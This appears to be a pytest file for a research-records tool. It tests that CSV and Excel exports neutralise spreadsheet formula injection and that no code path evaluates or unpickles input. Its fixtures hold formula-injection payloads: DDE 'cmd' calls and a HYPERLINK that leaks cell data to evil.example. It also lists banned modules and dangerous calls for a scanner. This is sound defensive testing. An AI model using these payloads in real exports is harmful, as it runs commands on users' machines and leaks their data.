"""Hostile content, library side: exports never carry a live spreadsheet formula, and no
code path evaluates or unpickles what a user gave.

Record text comes from exports we do not control. A cell starting with ``=``, ``+``,
``-``, ``@``, tab or carriage return is run as a formula by Excel, LibreOffice and Google
Sheets; `lib.spreadsheet.safe_cell` is the one place that neutralises it, and every CSV or
Excel writer must go through it: the command line's CSVs (`lib.commands.common.write_csv`,
behind ``ingest``, ``dedupe`` and ``code``) and the app's exports (`lib.exporting`).
The rendering side (no script runs in the browser) is the real-browser test's.
"""

from __future__ import annotations

import ast
import csv
import importlib.util
import io
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lib.commands.common import write_csv
from lib.ingest import read_path
from lib.spreadsheet import FORMULA_STARTS, safe_cell, unsafe_cell
from tests.conftest import ROOT

HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1\n+2",
)


def assert_inert(cell: str) -> None:
    assert not cell.startswith(FORMULA_STARTS), repr(cell)


# -- the rule --------------------------------------------------------------------------------
@pytest.mark.parametrize("value", HOSTILE)
def test_safe_cell_neutralises_each_formula_start(value: str) -> None:
    cell = safe_cell(value)
    assert cell == "'" + value
    assert unsafe_cell(cell) == value


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=30))
def test_safe_cell_changes_only_formula_starts_and_is_undone(value: str) -> None:
    cell = safe_cell(value)
    assert_inert(cell)
    assert cell == ("'" + value if value.startswith(FORMULA_STARTS) else value)
    assert unsafe_cell(cell) == value


# -- the command line's CSV ------------------------------------------------------------------
def _read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from(HOSTILE) | st.text(max_size=20), min_size=3, max_size=3))
def test_write_csv_writes_no_live_formula(tmp_path_factory: pytest.TempPathFactory, cells) -> None:
    path = tmp_path_factory.mktemp("csv") / "out.csv"
    write_csv(str(path), ["a", "b", "c"], [dict(zip("abc", cells, strict=True))])
    header, row = _read_csv(path)
    assert header == ["a", "b", "c"]
    for cell, value in zip(row, cells, strict=True):
        assert_inert(cell)
        assert unsafe_cell(cell) == value


def test_write_csv_to_stdout_is_neutralised_too(capsys: pytest.CaptureFixture[str]) -> None:
    write_csv("-", ["title"], [{"title": value} for value in HOSTILE])
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert [unsafe_cell(r[0]) for r in rows[1:]] == list(HOSTILE)
    for (cell,) in rows[1:]:
        assert_inert(cell)


HOSTILE_RIS = "\n".join(
    [
        "TY  - JOUR",
        "ID  - evil1",
        'TI  - =HYPERLINK("http://evil.example","click")',
        "AU  - @Mallory, Eve",
        "AU  - Doe, Jane",
        "KW  - -2+3",
        "KW  - +cmd",
        "JO  - =Journal",
        "AB  - @SUM(1+1) and more",
        "PY  - 2020",
        "ER  - ",
        "TY  - JOUR",
        "ID  - evil2",
        "TI  - -Negative thinking about peer support",
        "AU  - =Other, Person",
        "PY  - 2021",
        "ER  - ",
        "",
    ]
)


def _cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "lib.cli", *args],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
    )


def test_cli_ingest_and_dedupe_csvs_carry_no_live_formula(tmp_path: Path) -> None:
    source = tmp_path / "hostile.ris"
    source.write_text(HOSTILE_RIS, encoding="utf-8")
    records = tmp_path / "records.csv"
    done = _cli("ingest", str(source), "--out", str(records))
    assert done.returncode == 0, done.stderr
    dedupe = {flag: tmp_path / f"dedupe-{flag[2:]}.csv" for flag in
              ("--out", "--review", "--studies", "--links")}  # fmt: skip
    done = _cli("dedupe", str(source), *[a for f, p in dedupe.items() for a in (f, str(p))])
    assert done.returncode == 0, done.stderr
    for path in [records, *dedupe.values()]:
        for row in _read_csv(path):
            for cell in row:
                assert_inert(cell)
    rows = _read_csv(records)
    titles = [row[rows[0].index("title")] for row in rows[1:]]
    assert titles == [
        "'" + '=HYPERLINK("http://evil.example","click")',
        "'-Negative thinking about peer support",
    ]
    # our own reader takes the apostrophe off again: a round trip keeps the text
    again = read_path(records)
    assert [r.title for r in again.records] == [
        '=HYPERLINK("http://evil.example","click")',
        "-Negative thinking about peer support",
    ]
    assert again.records[0].authors[0] == "@Mallory, Eve"


def test_cli_code_csv_carries_no_live_formula(tmp_path: Path) -> None:
    if importlib.util.find_spec("lib.commands.code") is None:
        pytest.skip("the code command is not written yet")
    source = tmp_path / "hostile.ris"
    source.write_text(HOSTILE_RIS, encoding="utf-8")
    out = tmp_path / "codes.csv"
    done = _cli("code", str(source), "--out", str(out))
    assert done.returncode == 0, done.stderr
    for row in _read_csv(out):
        for cell in row:
            assert_inert(cell)


# -- the app's exports -----------------------------------------------------------------------
def _hostile_studies():
    exporting = pytest.importorskip("lib.exporting")
    factories = pytest.importorskip("tests.factories")
    studies = factories.make_studies(30, seed=3, hostile=True)
    text_columns = [
        c for c in studies.columns if studies[c].map(lambda v: isinstance(v, str)).all()
    ]
    for i, column in enumerate(text_columns):  # every text column gets every attack
        for j, value in enumerate(HOSTILE):
            studies.at[(i + j) % len(studies), column] = value
    for column in ("authors",):
        if column in studies and studies[column].map(lambda v: isinstance(v, list)).any():
            studies.at[0, column] = ["=Evil, Eve", "@Mallory, M."]
    return exporting, studies


def test_export_csv_carries_no_live_formula() -> None:
    exporting, studies = _hostile_studies()
    data = exporting.to_csv(studies)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert len(rows) == len(studies) + 1
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert_inert(cell)
    for value in HOSTILE[:5]:  # the text is kept, behind the apostrophe
        assert "'" + value in cells


def test_export_excel_carries_no_formula_cell() -> None:
    openpyxl = pytest.importorskip("openpyxl")
    exporting, studies = _hostile_studies()
    book = openpyxl.load_workbook(io.BytesIO(exporting.to_excel(studies, about=[("=x", "+y")])))
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    # typed text with Excel's quote prefix: shown as is, never a formula,
                    # and kept as text when a reviewer edits the cell
                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
                    seen += 1
    assert seen >= len(HOSTILE)


# -- nothing evaluates or unpickles user input -----------------------------------------------
BANNED_MODULES = {
    "pickle": "unpickling runs code",
    "cPickle": "unpickling runs code",
    "_pickle": "unpickling runs code",
    "dill": "unpickling runs code",
    "cloudpickle": "unpickling runs code",
    "joblib": "joblib.load unpickles",
    "marshal": "marshal loads code objects",
    "shelve": "shelve unpickles",
}
XML_MODULES = ("xml.etree", "xml.dom", "xml.sax", "xml.parsers", "lxml")
XML_PARSING_NAMES = {
    "parse",
    "fromstring",
    "fromstringlist",
    "XML",
    "XMLID",
    "XMLParser",
    "XMLPullParser",
    "iterparse",
    "parseString",
    "make_parser",
    "ParserCreate",
    "PullDOM",
}
SAFE_LOADERS = ("SafeLoader", "CSafeLoader", "BaseLoader", "CBaseLoader")


def _dotted(node: ast.AST) -> str:
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        return f"{_dotted(node.value)}.{node.attr}"
    return ""


def _safe_loader_names(tree: ast.Module) -> set[str]:
    """Names in a module that stand for a safe YAML loader: the library's safe loaders,
    module-level names assigned only from them, and classes derived from them."""
    safe = set(SAFE_LOADERS)

    def is_safe(node: ast.AST) -> bool:
        refs = [_dotted(n) for n in ast.walk(node) if isinstance(n, ast.Name | ast.Attribute)]
        loaders = {r.rsplit(".", 1)[-1] for r in refs if r.endswith("Loader") or r in safe}
        return bool(loaders) and loaders <= safe

    changed = True
    while changed:
        changed = False
        for stmt in tree.body:
            if isinstance(stmt, ast.ClassDef) and stmt.name not in safe:
                if stmt.bases and all(is_safe(b) for b in stmt.bases):
                    safe.add(stmt.name)
                    changed = True
            elif isinstance(stmt, ast.Assign) and len(stmt.targets) == 1:
                target = stmt.targets[0]
                if isinstance(target, ast.Name) and target.id not in safe and is_safe(stmt.value):
                    safe.add(target.id)
                    changed = True
    return safe


def dangerous_calls(source: str, name: str = "<code>") -> list[str]:
    """Every way ``source`` could evaluate or unpickle data, as "name:line: what" strings."""
    tree = ast.parse(source, filename=name)
    safe_loaders = _safe_loader_names(tree)
    found: list[str] = []

    def flag(node: ast.AST, what: str) -> None:
        found.append(f"{name}:{getattr(node, 'lineno', 0)}: {what}")

    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            for alias in node.names:
                top = alias.name.split(".")[0]
                if top in BANNED_MODULES:
                    flag(node, f"imports {alias.name} ({BANNED_MODULES[top]})")
                if alias.name.startswith(XML_MODULES):
                    flag(node, f"imports {alias.name}: parse XML with defusedxml")
        elif isinstance(node, ast.ImportFrom) and node.module:
            top = node.module.split(".")[0]
            if top in BANNED_MODULES:
                flag(node, f"imports from {node.module} ({BANNED_MODULES[top]})")
            if node.module.startswith(XML_MODULES) or node.module in ("xml", "lxml"):
                for alias in node.names:
                    if alias.name in XML_PARSING_NAMES | {"etree", "dom", "sax", "minidom", "*"}:
                        flag(node, f"{node.module}.{alias.name}: parse XML with defusedxml")
        elif isinstance(node, ast.Call):
            func = _dotted(node.func)
            last = func.rsplit(".", 1)[-1]
            if func in ("eval", "exec", "compile", "builtins.eval", "builtins.exec") or last in (
                "read_pickle",
                "unsafe_load",
                "full_load",
                "full_load_all",
            ):
                flag(node, f"calls {func}()")
            elif last == "eval" and isinstance(node.func, ast.Attribute):
                flag(node, f"calls {func}() (pandas/numexpr evaluation)")
            elif last == "query" and func.split(".")[0] in ("pd", "pandas", "df", "frame"):
                if not (node.args and isinstance(node.args[0], ast.Constant)):
                    flag(node, f"calls {func}() on a computed expression")
            elif func in ("yaml.load", "yaml.load_all", "load_all") or (
                last in ("load", "load_all") and func.startswith("yaml")
            ):
                loader = next((k.value for k in node.keywords if k.arg == "Loader"), None)
                if loader is None and len(node.args) > 1:
                    loader = node.args[1]
                if loader is None or _dotted(loader).rsplit(".", 1)[-1] not in safe_loaders:
                    flag(node, f"calls {func}() without a safe loader")
            elif last == "load" and func.split(".")[0] in ("np", "numpy", "torch"):
                pickled = any(
                    k.arg == "allow_pickle"
                    and not (isinstance(k.value, ast.Constant) and k.value.value is False)
                    for k in node.keywords
                )
                if pickled or func.startswith("torch"):
                    flag(node, f"calls {func}() that may unpickle")
    return found


@pytest.mark.parametrize(
    "snippet",
    [
        "eval(text)",
        "exec(code)",
        "compile(src, 'x', 'exec')",
        "import pickle\npickle.loads(data)",
        "from pickle import loads",
        "import marshal",
        "import shelve",
        "import joblib",
        "import pandas as pd\npd.read_pickle(path)",
        "import yaml\nyaml.load(text)",
        "import yaml\nyaml.load(text, Loader=yaml.Loader)",
        "import yaml\nyaml.load(text, yaml.FullLoader)",
        "import yaml\nyaml.unsafe_load(text)",
        "import yaml\nyaml.full_load(text)",
        "import yaml\nclass L(yaml.UnsafeLoader): pass\nyaml.load(text, Loader=L)",
        "import xml.etree.ElementTree as ET\nET.fromstring(text)",
        "from xml.etree.ElementTree import fromstring",
        "from xml.dom import minidom",
        "from xml.dom.minidom import parseString",
        "import xml.sax",
        "from lxml import etree",
        "import numpy as np\nnp.load(path, allow_pickle=True)",
        "frame.eval(expression)",
        "df.query(user_filter)",
    ],
)
def test_scanner_finds_each_dangerous_call(snippet: str) -> None:
    assert dangerous_calls(snippet), snippet


@pytest.mark.parametrize(
    "snippet",
    [
        "import yaml\nyaml.safe_load(text)",
        "import yaml\nyaml.load(text, Loader=yaml.SafeLoader)",
        "import yaml\nB = getattr(yaml, 'CSafeLoader', yaml.SafeLoader)\n"
        "class L(B): pass\nyaml.load(text, Loader=L)",
        "from xml.etree.ElementTree import Element, TreeBuilder, ParseError",
        "from defusedxml.ElementTree import fromstring\nfromstring(text)",
        "import re\nre.compile('x')",
        "import ast\nast.literal_eval(text)",
        "df.query('year > 2000')",
    ],
)
def test_scanner_lets_safe_code_pass(snippet: str) -> None:
    assert dangerous_calls(snippet) == []


def _code_files() -> list[Path]:
    files = sorted((ROOT / "lib").rglob("*.py")) + sorted((ROOT / "app_pages").glob("*.py"))
    files += [p for p in (ROOT / "app.py",) if p.exists()]
    return files


def test_no_code_path_evaluates_or_unpickles_input() -> None:
    files = _code_files()
    assert len(files) > 20  # the scan did look at the code
    found = []
    for path in files:
        found += dangerous_calls(path.read_text(encoding="utf-8"), str(path.relative_to(ROOT)))
    assert found == []


@given(st.text(max_size=30))
def test_safe_cell_round_trips_through_unsafe_cell(text: str) -> None:
    from lib.spreadsheet import FORMULA_STARTS, safe_cell, unsafe_cell

    cell = safe_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert unsafe_cell(cell) == text
